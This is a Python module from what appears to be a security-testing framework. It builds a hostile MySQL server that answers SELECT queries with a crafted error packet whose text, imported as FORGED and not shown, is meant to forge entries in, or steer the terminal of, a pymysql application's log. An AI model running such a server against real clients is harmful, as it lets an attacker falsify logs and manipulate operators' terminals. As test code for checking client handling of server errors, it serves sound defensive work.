"""D10 on pymysql: a MySQL's error text steers the terminal that shows the app's log."""

from backwatch.attack.authority import Authority
from backwatch.attack.demo.services.mysql import Packets
from backwatch.attack.protocols.mysql import HonestMySQL
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.forged_log import FORGED, LogsErrors
from backwatch.attack.techniques.mysql import ONE, ORDERS, PyMySQL


class _Forging(HonestMySQL):
    def answers(self, wire: Packets, statement: bytes) -> bool:
        if not self.hostile or not statement.startswith(b"SELECT"):
            return super().answers(wire, statement)
        wire.send(b"\xff\x51\x04#HY000" + FORGED.encode())
        return True


class MysqlForgedLog(LogsErrors, PyMySQL):
    """PyMySQL's exception prints itself as a tuple, in which the text is escaped; the app writes the text alone."""

    errors = "pymysql.Error"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Honest yet."""
        return _Forging(authority)

    def text_of(self, error: BaseException) -> object:
        """Without the number."""
        return error.args[-1]

    def ask(self) -> object:
        """Reads orders, on a new connection each time."""
        self.renew()
        with self.connected().cursor() as cursor:
            cursor.execute(ORDERS, ONE)
            return len(cursor.fetchall())
